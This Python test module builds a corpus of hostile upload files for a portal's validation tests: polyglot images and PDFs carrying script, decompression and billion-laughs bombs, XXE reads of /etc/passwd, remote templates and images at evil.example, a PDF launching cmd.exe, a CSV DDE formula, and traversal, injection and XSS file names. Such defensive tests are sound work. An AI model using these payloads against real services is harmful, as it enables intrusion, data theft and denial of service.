"""Hostile files, made by code: each is what somebody would send to harm the portal, its editors or its readers."""

import gzip
import io
import struct
import tarfile
import zipfile
from functools import cache

import PIL.Image
from PIL import ImageCms, PngImagePlugin

from asp_portal.library.kinds import CONTENT_TYPES, Kind
from tests.hostile.makers import (
    HTML,
    MARK,
    SCRIPT,
    SVG,
    WORD,
    Hostile,
    chunk,
    exif,
    locked_zip,
    lying,
    package,
    packed_objects,
    pdf,
    png,
    relations,
    saved,
    with_chunks,
    zeros,
)
from tests.library.files import PDF, office_bytes, picture_bytes
from tests.richtext.docx import docx, paragraph, picture


def pictures():
    """Files that say they are pictures: pairs of what they are and (name, claimed type, bytes)."""
    gif, jpeg, plain = picture_bytes("GIF", (40, 30)), picture_bytes("JPEG", (40, 30)), picture_bytes("PNG", (40, 30))
    frames = [PIL.Image.new("P", (8, 8), number % 250) for number in range(2000)]
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", (SCRIPT * 3).decode())
    text.add_itxt("XML:com.adobe.xmp", SCRIPT.decode())
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes() + MARK
    small = PIL.Image.new("RGB", (40, 30), "red")
    yield "GIF that is a script", ("a.gif", "image/gif", b"GIF89a/*" + gif[8:] + b"*/=1;" + SCRIPT)
    yield "GIF with a comment", ("a.gif", "image/gif", saved(frames[0], "GIF", comment=SCRIPT))
    yield (
        "GIF of 2,000 pictures",
        (
            "a.gif",
            "image/gif",
            saved(frames[0], "GIF", save_all=True, append_images=frames[1:]),
        ),
    )
    yield "GIF of 65,535 × 65,535", ("a.gif", "image/gif", b"GIF89a\xff\xff\xff\xff" + gif[10:])
    yield "GIF, truncated", ("a.gif", "image/gif", gif[:40])
    yield "JPEG with a zip behind it", ("a.jpg", "image/jpeg", jpeg + package({"x.txt": MARK}, None))
    yield "JPEG with HTML behind it", ("a.jpg", "image/jpeg", jpeg + HTML)
    yield "JPEG with a script as comment", ("a.jpg", "image/jpeg", saved(small, "JPEG", comment=SCRIPT))
    yield "JPEG with a place and a name", ("a.jpg", "image/jpeg", saved(small, "JPEG", exif=exif()))
    yield "JPEG with XMP", ("a.jpg", "image/jpeg", saved(small, "JPEG", xmp=b"<x:xmpmeta>" + MARK + b"</x:xmpmeta>"))
    yield (
        "JPEG with IPTC",
        (
            "a.jpg",
            "image/jpeg",
            jpeg[:2] + b"\xff\xed" + struct.pack(">H", 2 + 14 + len(MARK)) + b"Photoshop 3.0\x00" + MARK + jpeg[2:],
        ),
    )
    yield (
        "JPEG with a second picture",
        (
            "a.jpg",
            "image/jpeg",
            saved(small, "MPO", save_all=True, append_images=[small.copy()]) + MARK,
        ),
    )
    yield "JPEG of 65,500 × 65,500", ("a.jpg", "image/jpeg", _resized_jpeg(jpeg, 65500, 65500))
    yield "JPEG, truncated", ("a.jpg", "image/jpeg", picture_bytes()[:900])
    yield "JPEG with a broken profile", ("a.jpg", "image/jpeg", saved(small, "JPEG", icc_profile=MARK * 4000))
    yield "JPEG with a profile that says more", ("a.jpg", "image/jpeg", saved(small, "JPEG", icc_profile=profile))
    yield "PNG with HTML behind it", ("a.png", "image/png", plain + HTML)
    yield "PNG with scripts as text", ("a.png", "image/png", saved(small, "PNG", pnginfo=text))
    yield "PNG with a place and a name", ("a.png", "image/png", saved(small, "PNG", exif=exif()))
    yield "PNG of 50,000 × 50,000", ("a.png", "image/png", png(50_000, 50_000, data=zeros(1_000_000)))
    yield "PNG of 6,000 × 6,000 and ten rows", ("a.png", "image/png", png(6000, 6000, data=zeros(180_010)))
    yield "PNG of 2,147,483,647 × 1", ("a.png", "image/png", png(2**31 - 1, 1, data=zeros(1000)))
    yield "PNG without an extent", ("a.png", "image/png", png(0, 0, data=zeros(10)))
    yield "PNG of 1 × 20,000", ("a.png", "image/png", saved(PIL.Image.new("L", (1, 20_000)), "PNG"))
    yield "PNG of 20,000 × 1", ("a.png", "image/png", saved(PIL.Image.new("L", (20_000, 1)), "PNG"))
    yield (
        "PNG whose text unpacks to 60 MB",
        (
            "a.png",
            "image/png",
            with_chunks(chunk(b"zTXt", b"k\x00\x00" + zeros(60_000_000))),
        ),
    )
    yield (
        "PNG whose international text unpacks to 60 MB",
        (
            "a.png",
            "image/png",
            with_chunks(chunk(b"iTXt", b"k\x00\x01\x00\x00\x00" + zeros(60_000_000))),
        ),
    )
    yield (
        "PNG with 3,000 texts",
        (
            "a.png",
            "image/png",
            with_chunks(*[chunk(b"zTXt", b"k\x00\x00" + zeros(100_000)) for _n in range(3000)]),
        ),
    )
    yield (
        "PNG whose profile unpacks to 60 MB",
        (
            "a.png",
            "image/png",
            with_chunks(chunk(b"iCCP", b"k\x00\x00" + zeros(60_000_000))),
        ),
    )
    yield "PNG with a broken check sum", ("a.png", "image/png", plain[:40] + b"\xff" + plain[41:])
    yield (
        "PNG that moves for ever",
        (
            "a.png",
            "image/png",
            saved(small, "PNG", save_all=True, append_images=[PIL.Image.new("RGB", (40, 30), "blue")] * 50),
        ),
    )
    yield (
        "WebP of 300 pictures",
        (
            "a.webp",
            "image/webp",
            saved(
                small,
                "WEBP",
                save_all=True,
                append_images=[PIL.Image.new("RGB", (40, 30), (n % 250, 0, 0)) for n in range(300)],
            ),
        ),
    )
    yield "WebP with a place and a name", ("a.webp", "image/webp", saved(small, "WEBP", exif=exif(), xmp=MARK))
    yield "WebP, truncated", ("a.webp", "image/webp", saved(small, "WEBP")[:60])
    yield "WebP that says it has 4 GB", ("a.webp", "image/webp", b"RIFF\xff\xff\xff\xffWEBPVP8 \xff\xff\xff\xff" + MARK)
    for name, claimed in (("a.svg", "image/svg+xml"), ("a.png", "image/png"), ("a.svg.jpg", "image/jpeg")):
        yield f"SVG called {name}", (name, claimed, SVG)
    for name, claimed in (("a.html", "text/html"), ("a.jpg", "image/jpeg"), ("a.gif", "image/svg+xml")):
        yield f"HTML called {name}", (name, claimed, HTML)
    yield "SVG, packed", ("a.svgz", "image/svg+xml", gzip.compress(SVG))
    for format_name, ending in (("TIFF", "tif"), ("BMP", "bmp"), ("ICO", "ico"), ("EPS", "eps"), ("TGA", "tga"),
                                ("PPM", "ppm"), ("PCX", "pcx"), ("JPEG2000", "jp2"), ("DDS", "dds")):  # fmt: skip
        content = saved(small, format_name)
        yield f"{format_name}", (f"a.{ending}", "image/jpeg", content)
        yield f"{format_name} called JPEG", ("a.jpg", "image/jpeg", content)
    yield (
        "EPS that deletes files",
        ("a.png", "image/png", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/x) deletefile"),
    )
    yield "FITS", ("a.jpg", "image/jpeg", b"SIMPLE  =                    T".ljust(80) + b"END".ljust(2800))
    yield "PSD", ("a.png", "image/png", b"8BPS\x00\x01" + b"\x00" * 60)
    yield (
        "ImageMagick's own language",
        ("a.jpg", "image/jpeg", b'push graphic-context\nimage over 0,0 0,0 "https://evil.example"'),
    )
    yield "an empty picture", ("a.jpg", "image/jpeg", b"")
    yield "a picture of zeros, 11 MB", ("a.jpg", "image/jpeg", b"\x00" * 11_000_000)
    yield "a JPEG of 11 MB", ("a.jpg", "image/jpeg", jpeg + b"\x00" * 11_000_000)
    yield "a JPEG called PNG", ("a.png", "image/png", jpeg)


def _resized_jpeg(content, width, height):
    place = content.index(b"\xff\xc0")
    return content[: place + 5] + struct.pack(">HH", height, width) + content[place + 9 :]


def documents():
    """Files that say they are documents: pairs of what they are and (name, claimed type, bytes)."""
    action = b"<</S/JavaScript/JS(app.alert\\('" + MARK + b"'\\))>>"
    yield "PDF with HTML in front", ("a.pdf", "application/pdf", HTML + PDF)
    yield "PDF with HTML in it", ("a.pdf", "application/pdf", PDF[:9] + b"%" + HTML + b"\n" + PDF[9:])
    yield "PDF with a zip behind it", ("a.pdf", "application/pdf", PDF + package({"x.txt": MARK}, None) + b"%%EOF")
    yield "PDF with JavaScript", ("a.pdf", "application/pdf", pdf(action))
    yield (
        "PDF with JavaScript in other letters",
        ("a.pdf", "application/pdf", pdf(action.replace(b"S/JavaScript/JS", b"S/J#61vaScript/#4aS"))),
    )
    yield "PDF with JavaScript in a packed stream", ("a.pdf", "application/pdf", pdf(packed_objects(b"3 0 " + action)))
    yield "PDF that starts a programme", ("a.pdf", "application/pdf", pdf(b"<</S/Launch/F(cmd.exe)>>"))
    yield (
        "PDF with another file in it",
        ("a.pdf", "application/pdf", pdf(b"<</Type/EmbeddedFile>>stream\nMZ\nendstream")),
    )
    yield "PDF with a form of XML", ("a.pdf", "application/pdf", pdf(b"<</AcroForm<</XFA 4 0 R>>>>"))
    yield "PDF with a password", ("a.pdf", "application/pdf", pdf(b"<</Filter/Standard>>", trailer=b"/Encrypt 3 0 R"))
    yield "PDF, truncated", ("a.pdf", "application/pdf", PDF[:40])
    yield "PDF whose objects unpack to 60 MB", ("a.pdf", "application/pdf", pdf(packed_objects(b" " * 60_000_000)))
    yield (
        "PDF whose objects unpack to 40 × 2 MB",
        ("a.pdf", "application/pdf", pdf(*[packed_objects(b" " * 2_000_000)] * 40)),
    )
    yield "PDF with 20,000 streams", ("a.pdf", "application/pdf", pdf(*[packed_objects(b"3 0 ")] * 20_000))
    yield (
        "PDF with a table of a billion objects",
        ("a.pdf", "application/pdf", PDF[:-6] + b"xref\n0 999999999\n" + b"%%EOF"),
    )
    yield "PDF of names without end", ("a.pdf", "application/pdf", pdf(b"/" * 2_000_000))
    yield "PDF of one long name", ("a.pdf", "application/pdf", pdf(b"/" + b"A" * 2_000_000))
    yield "PDF that opens streams and closes none", ("a.pdf", "application/pdf", pdf(b"stream\n" * 100_000))
    yield "PDF called Word", ("a.docx", WORD, PDF)
    yield "HTML called PDF", ("a.pdf", "application/pdf", HTML)
    yield "SVG called PDF", ("a.pdf", "application/pdf", SVG)
    yield "SVG as a document", ("a.svg", "image/svg+xml", SVG)
    yield "PostScript called PDF", ("a.pdf", "application/pdf", b"%!PS\n(/x) deletefile %%EOF")
    yield "a programme called PDF", ("a.pdf.exe", "application/pdf", b"MZ" + b"\x00" * 200)
    yield "the old format of Word", ("a.doc", "application/msword", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 900)
    yield "rich text format", ("a.rtf", "application/rtf", b"{\\rtf1\\object\\objdata 0105}")
    yield "an empty document", ("a.pdf", "application/pdf", b"")
    yield "a document of 51 MB", ("a.pdf", "application/pdf", PDF + b" " * (51 * 1024 * 1024) + b"%%EOF")
    yield from packages()


def packages():
    """Office files: pairs of what they are and (name, claimed type, bytes)."""
    letter = docx(paragraph("Dear delegates"))

    def word(**parts):
        return docx(paragraph("Dear delegates"), **parts)

    settings, evil = "word/_rels/settings.xml.rels", "//evil.example/x.dotm"
    network = evil.replace("/", "\\")
    deep = b"<a>" * 100_000 + b"</a>" * 100_000
    laughs = (
        b'<!DOCTYPE a [<!ENTITY l "lol">'
        + b"".join(b'<!ENTITY l%d "%s">' % (n, (b"&l%d;" % (n - 1) if n else b"&l;") * 10) for n in range(9))
        + b"]>"
    )
    body = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>'
    for what, parts in (
        ("with a part of 300 MB", {"extra": {"word/x.xml": b" " * 300_000_000}}),
        ("with 6,000 parts", {"extra": {f"word/{n}.txt": b"" for n in range(6000)}}),
        ("that leads out of its folder", {"extra": {"../../etc/cron.d/x": b"x"}}),
        ("with a path from the root", {"extra": {"/etc/passwd": b"x"}}),
        ("with a path of Windows", {"extra": {"C:\\x.txt": b"x"}}),
        ("with another zip in it", {"extra": {"word/x.zip": package({"a": b"x"}, None)}}),
        ("with a programme in it", {"extra": {"word/embeddings/x.exe": b"MZ"}}),
        ("with HTML in it", {"extra": {"word/x.html": HTML}}),
        ("with macros", {"extra": {"word/vbaProject.bin": b"x"}}),
        ("with a template of another machine", {"extra": {settings: relations("attachedTemplate", f"https:{evil}")}}),
        ("with a template on a network path", {"extra": {settings: relations("attachedTemplate", network)}}),
        ("with an object of another machine", {"extra": {"word/_rels/x.xml.rels": relations("oleObject", "mhtml:https://evil.example!x-usc:x")}}),
        ("with a million elements", {"extra": {"word/x.xml": b"<a>" + b"<b/>" * 1_000_000 + b"</a>"}}),
        ("nested 100,000 deep", {"extra": {"word/x.xml": deep}}),
        ("with entities", {"extra": {"word/x.xml": laughs + b"<a>&l8;</a>"}}),
        ("with entities under another name", {"extra": {"word/x.bin": laughs + b"<a>&l8;</a>"}}),
        ("with entities in UTF-16", {"extra": {"word/x.xml": (laughs + b"<a>&l8;</a>").decode().encode("utf-16")}}),
        ("with a file of the machine as entity", {"extra": {"word/x.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}}),
        ("with broken XML", {"extra": {"word/comments.xml": b"<a><b></a>"}}),
        ("with a picture of another machine", {"outside": {"rPic1": "https://evil.example/x.png"}}),
        ("with a picture of this machine", {"outside": {"rPic1": "file:///etc/passwd"}}),
    ):  # fmt: skip
        yield f"Word file {what}", ("a.docx", WORD, word(**parts))
    for what, content in (
        ("SVG", SVG),
        ("HTML", HTML),
        ("bomb", png(50_000, 50_000, data=zeros(100_000))),
        ("picture with a place", saved(PIL.Image.new("RGB", (30, 20)), "JPEG", exif=exif())),
    ):
        yield (
            f"Word file with a {what} as picture",
            (
                "a.docx",
                WORD,
                docx(paragraph("Dear delegates"), picture(), pictures={"rPic1": ("a.png", content)}),
            ),
        )
    yield (
        "Word file whose text is another part",
        (
            "a.docx",
            WORD,
            _renamed(docx(paragraph("x")), laughs + body % b"<w:p><w:r><w:t>&l8;</w:t></w:r></w:p>"),
        ),
    )
    yield (
        "Word file whose text is nested and another part",
        (
            "a.docx",
            WORD,
            _renamed(docx(paragraph("x")), body % (b"<w:p>" * 20_000 + b"</w:p>" * 20_000)),
        ),
    )
    yield (
        "Word file that lies about a size",
        ("a.docx", WORD, lying(word(extra={"word/x.xml": b" " * 9_000_000}), "word/x.xml", 90)),
    )
    yield "Word file of parts with passwords", ("a.docx", WORD, locked_zip(letter))
    yield "Word file, truncated", ("a.docx", WORD, letter[: len(letter) // 2])
    yield "Word file behind HTML", ("a.docx", WORD, HTML + letter)
    yield "Word file with HTML behind it", ("a.docx", WORD, letter + HTML)
    yield "Word file with links that run", ("a.docx", WORD, docx(paragraph("x"), links={"rL": "javascript:alert(1)"}))
    yield "Word file whose words are markup", ("a.docx", WORD, docx(paragraph("&lt;script&gt;alert(1)&lt;/script&gt;")))
    yield "a plain zip called Word", ("a.docx", WORD, package({"x.txt": MARK}, None))
    yield "a zip bomb called Word", ("a.docx", WORD, package({"x.txt": b"\x00" * 100_000_000}))
    yield "a zip in a zip in a zip", ("a.docx", WORD, package({"x.zip": package({"x.zip": b"x"}, None)}))
    yield "Excel file called Word", ("a.docx", WORD, office_bytes(Kind.XLSX))
    yield "Excel bomb", ("a.xlsx", CONTENT_TYPES[Kind.XLSX], package({"xl/x.xml": b" " * 150_000_000}, Kind.XLSX))
    yield "OpenDocument with a script", ("a.odt", CONTENT_TYPES[Kind.ODT], package({"Scripts/x.py": b"x"}, Kind.ODT))
    yield "OpenDocument with entities", ("a.odt", CONTENT_TYPES[Kind.ODT], package({"content.xml": laughs}, Kind.ODT))


def _renamed(content, text):
    """The Word file `content` with its main part under a name that is not that of XML, and `text` in it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name == "_rels/.rels":
                new.writestr(name, old.read(name).replace(b"word/document.xml", b"word/text.png"))
            elif name == "word/document.xml":
                new.writestr("word/text.png", text)
            else:
                new.writestr(name, old.read(name))
    return buffer.getvalue()


NAMES = (
    "report\u202efdp.exe",
    "CON.pdf",
    "..\\..\\windows\\win.ini",
    "../../etc/passwd",
    "a" * 400 + ".pdf",
    "\N{SKULL}\ufe0f\u200d\N{FIRE}.pdf",
    "a;b&c|d`e$(f).pdf",
    '"><img src=x onerror=alert(1)>.pdf',
    ".pdf",
    ".htaccess",
    "a\u0000.pdf",
    "a\r\nX-Odd: 1.pdf",
    "%2e%2e%2fa.pdf",
    " .pdf ",
    "a.pdf::$DATA",
)


def names():
    """Sound files under names that mean harm."""
    for name in NAMES:
        yield f"a PDF called {name[:30]!a}", (name, "application/pdf", PDF)
        yield (
            f"a JPEG called {name[:30]!a}",
            (name.replace(".pdf", ".jpg"), "image/jpeg", picture_bytes("JPEG", (40, 30))),
        )


def lists():
    """Files that say they are lists: pairs of what they are and (name, claimed type, bytes)."""
    yield "CSV with null bytes", ("a.csv", "text/csv", b"number,text\n1,a\x00b\n")
    yield "CSV in UTF-16", ("a.csv", "text/csv", "number,text\n1,Pay <script>\n".encode("utf-16"))
    yield "CSV in UTF-16 without a sign", ("a.csv", "text/csv", "number,text\n1,Pay\n".encode("utf-16-le"))
    yield "CSV in UTF-32", ("a.csv", "text/csv", "number,text\n1,Pay\n".encode("utf-32"))
    yield "CSV of one line of 100 MB", ("a.csv", "text/csv", b"1," + b"a" * 100_000_000)
    yield "CSV of one line of 1 MB", ("a.csv", "text/csv", b"1," + b"a" * 1_000_000)
    yield "CSV of a million fields", ("a.csv", "text/csv", b"1" + b"," * 1_000_000)
    yield "CSV of quotation marks", ("a.csv", "text/csv", b'1,"' + b'"' * 100_001)
    yield "CSV of 200,000 lines", ("a.csv", "text/csv", b"1,a\n" * 200_000)
    yield "CSV of formulas", ("a.csv", "text/csv", b"number,text\n1,\"=cmd|'/c calc'!A1\"\n")
    yield "CSV that is markup", ("a.csv", "text/csv", b"number,text\n1,<script>alert(1)</script>\n")
    yield "a list without a letter", ("a.txt", "text/plain", b"\xff\xfe")
    yield "a list of broken UTF-8", ("a.txt", "text/plain", b"1. \xed\xa0\x80\xc0\xaf")


def archives():
    """Lines for `import_publications`: pairs of what they are and (name, claimed type, bytes)."""
    page = b'{"title": "%s", "slug": "a", "issued_on": "2017-12-04", "body": "%s"}'
    for what, content in (
        ("null byte in a title", page % (b"a\\u0000b", b"")),
        ("half a character in a title", page % (b"a\\ud800b", b"")),
        ("half a character in a text", page % (b"a", b"<p>a\\ud800b</p>")),
        ("a script as text", page % (b"a", b"<script>alert(1)</script>")),
        ("a line nested 100,000 deep", b"[" * 100_000),
        ("a text nested 50,000 deep", page % (b"a", b"<div>" * 50_000)),
        ("a line of 30 MB", page % (b"a", b"a" * 30_000_000)),
        ("UTF-16", page.decode().encode("utf-16")),
        ("a number without end", b'{"title": 1' + b"0" * 6000 + b"}"),
        ("an infinite day", b'{"title": "a", "slug": "a", "issued_on": "2017-12-04", "days": [1e999]}'),
        ("days as a word", b'{"title": "a", "slug": "a", "issued_on": "2017-12-04", "days": "many"}'),
        ("themes that are no words", b'{"title": "a", "slug": "a", "issued_on": "2017-12-04", "themes": [{}, []]}'),
        ("a title that is a list", b'{"title": ["a"], "slug": {}, "issued_on": "2017-12-04"}'),
        ("a date that is a number", b'{"title": "a", "slug": "a", "issued_on": 7}'),
        ("no JSON", HTML),
        ("nothing", b""),
    ):
        yield f"archive: {what}", ("a.jsonl", "application/json", content + b"\n")


def backups():
    """What is no backup: pairs of what it is and (name, claimed type, bytes)."""

    def tar(*entries):
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w") as made:
            for name, content, kind in entries:
                entry = tarfile.TarInfo(name)
                entry.type, entry.size = kind, len(content)
                entry.linkname = "/etc/passwd" if kind != tarfile.REGTYPE else ""
                made.addfile(entry, io.BytesIO(content))
        return buffer.getvalue()

    file = tarfile.REGTYPE
    wrong = b'{"format": 1, "made_at": 1, "engine": 1, "migrations": 1, "files": []}'
    for what, content in (
        ("a path out of the folder", tar(("../../x", b"x", file))),
        ("a path from the root", tar(("/etc/hostile", b"x", file))),
        ("a link", tar(("media/a", b"", tarfile.SYMTYPE))),
        ("a hard link", tar(("media/a", b"", tarfile.LNKTYPE))),
        ("a device", tar(("media/a", b"", tarfile.CHRTYPE))),
        ("a list that is no list", tar(("manifest.json", b"[1]", file))),
        ("a list nested 100,000 deep", tar(("manifest.json", b"[" * 100_000, file))),
        ("a list of the wrong kind", tar(("manifest.json", wrong, file))),
        ("a list that is a folder", tar(("manifest.json", b"", tarfile.DIRTYPE))),
        ("a null byte in a name", tar(("media/a\x00b", b"x", file))),
        ("the end missing", tar(("media/a", b"x" * 2000, file))[:1000]),
        ("a header that says 8 GB", tar(("media/a", b"", file))[:124] + b"77777777777\x00" + b"\x00" * 900),
        ("a zip", package({"x": b"x"}, None)),
        ("an encrypted nothing", b"age-encryption.org/v1\n-> X25519 x\n"),
        ("nothing", b""),
        ("noise", bytes(range(256)) * 40),
    ):  # fmt: skip
        yield f"backup: {what}", ("portal.tar", "application/x-tar", content)


@cache
def corpus(kind):
    """All Hostile files of `kind`: pictures, documents, names, lists, archives or backups."""
    makers = {f.__name__: f for f in (pictures, documents, names, lists, archives, backups)}
    return [Hostile(what, *said) for what, said in makers[kind]()]
